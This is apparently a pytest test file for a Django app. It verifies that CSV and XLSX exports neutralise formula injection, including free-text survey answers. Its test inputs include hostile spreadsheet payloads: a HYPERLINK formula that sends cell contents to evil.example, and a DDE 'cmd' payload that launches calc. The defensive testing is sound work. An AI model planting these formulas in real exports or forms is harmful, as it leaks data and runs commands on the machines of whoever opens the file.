"""CSV injection (OWASP, ASVS 5.3.10): every CSV and XLSX export goes through
`centre.spreadsheets`, which writes a cell a spreadsheet would run as a formula as text — the
survey answers typed in the public link included."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from centre import spreadsheets
from centre.models import User
from centre.reports.exports import ExportContext
from centre.reports.exports import to_csv as report_csv
from centre.reports.exports import to_xlsx as report_xlsx
from outreach.participation.models import AnswerSheet, SheetChannel
from tests.outreach.participation.factories import kinds_survey

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_prefixes_get_a_quote(value: str) -> None:
    assert spreadsheets.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Un dentiste", "", "12", "-3", "-1,5", "+33", "2026-01-31"])
def test_plain_text_and_numbers_are_unchanged(value: str) -> None:
    assert spreadsheets.neutralise(value) == value
    assert spreadsheets.neutralise(-3) == -3


def test_csv_writer_neutralises_header_and_cells() -> None:
    data = spreadsheets.csv_bytes(["=titre", "b"], [["@x", 4], ["-3", "ok"]])
    assert data.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")) == [
        ["'=titre", "b"],
        ["'@x", "4"],
        ["-3", "ok"],
    ]


def _formula_elements(xlsx: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return sum(
            archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_xlsx_writer_stores_formula_like_text_as_text_whatever_the_way_in() -> None:
    book = spreadsheets.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1", "-3", 7])
    sheet["A2"] = "@cmd"
    data = spreadsheets.workbook_bytes(book)
    assert _formula_elements(data) == 0
    back = load_workbook(io.BytesIO(data)).active
    assert back is not None
    a1, b1, c1, a2 = back["A1"], back["B1"], back["C1"], back["A2"]
    assert (a1.value, a1.data_type, a1.quotePrefix) == ("=1+1", "s", True)
    assert (a2.value, a2.data_type, a2.quotePrefix) == ("@cmd", "s", True)
    assert (b1.value, b1.quotePrefix) == ("-3", False)
    assert (c1.value, c1.data_type) == (7, "n")


def _public_answers(kinds: Any, wish: str) -> dict[str, Any]:
    return {
        f"q{kinds.neighbourhood.pk}": str(kinds.choice(kinds.neighbourhood, "Autre").pk),
        f"q{kinds.barriers.pk}": [str(kinds.choice(kinds.barriers, "Langue").pk)],
        f"q{kinds.satisfaction.pk}": "3",
        f"q{kinds.visits.pk}": "2",
        f"q{kinds.wish.pk}": wish,
    }


@pytest.mark.django_db
def test_survey_answers_typed_in_the_public_link_are_text_in_csv_and_xlsx(
    client: Client, client_for: Any, staff: dict[str, User]
) -> None:
    kinds = kinds_survey(public=True)
    attack = '=HYPERLINK("https://evil.example/?d="&B2;"Résultats")'
    url = reverse("participation:public_form", args=[kinds.survey.public_token])
    assert client.post(url, _public_answers(kinds, attack)).status_code == 200
    assert AnswerSheet.objects.get().channel == SheetChannel.ONLINE

    director = client_for("direction")
    response = director.get(reverse("participation:survey_export_csv", args=[kinds.survey.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][-1] == "'" + attack

    response = director.get(reverse("participation:survey_export_xlsx", args=[kinds.survey.pk]))
    assert response.status_code == 200
    assert _formula_elements(response.content) == 0
    book = load_workbook(io.BytesIO(response.content))
    raw = book["Questionnaires"]
    cell = raw.cell(row=2, column=raw.max_column)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (attack, "s", True)
    # The free text is also listed on the results sheet: text there too.
    texts = [c for row in book["Résultats"].iter_rows() for c in row if c.value == attack]
    assert len(texts) == 1 and texts[0].data_type == "s" and texts[0].quotePrefix


def test_report_csv_and_xlsx_neutralise_labels() -> None:
    ctx = ExportContext(
        template_title="=Rapport", period_start="2026-01-01", period_end="2026-01-31",
        site_label="@Site", threshold=5, generated_at="2026-02-01",
    )  # fmt: skip
    figures = [
        {
            "key": "k",
            "label": "+Libellé",
            "value": 12,
            "unit": "",
            "definition": "-déf",
            "breakdown": [("=cat", 7), ("Autre", 5)],
        }
    ]
    rows = list(
        csv.reader(io.StringIO(report_csv(ctx, figures).decode("utf-8-sig")), delimiter=";")
    )
    assert rows[1] == ["'=Rapport", "2026-01-01", "2026-01-31", "'@Site", "k", "'+Libellé",
                       "total", "12", ""]  # fmt: skip
    assert rows[2][6:8] == ["'=cat", "7"]
    data = report_xlsx(ctx, figures)
    assert _formula_elements(data) == 0
    book = load_workbook(io.BytesIO(data))
    values = {c.value: c for s in book.worksheets for row in s.iter_rows() for c in row}
    for text in ("=Rapport", "@Site", "+Libellé", "=cat", "-déf"):
        assert values[text].data_type == "s" and values[text].quotePrefix, text
    assert values[12].data_type == "n"


FORBIDDEN = re.compile(
    r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\b"
    r"|from openpyxl(\.workbook)? import [^\n]*\bWorkbook\b"
)


def test_no_other_spreadsheet_writer_in_the_project() -> None:
    """One writer: no module but centre/spreadsheets.py builds a CSV or XLSX file itself."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "node_modules"} or relative == Path(
            "centre/spreadsheets.py"
        ):
            continue
        if FORBIDDEN.search(path.read_text(encoding="utf-8")):
            offenders.append(str(relative))
    assert offenders == []
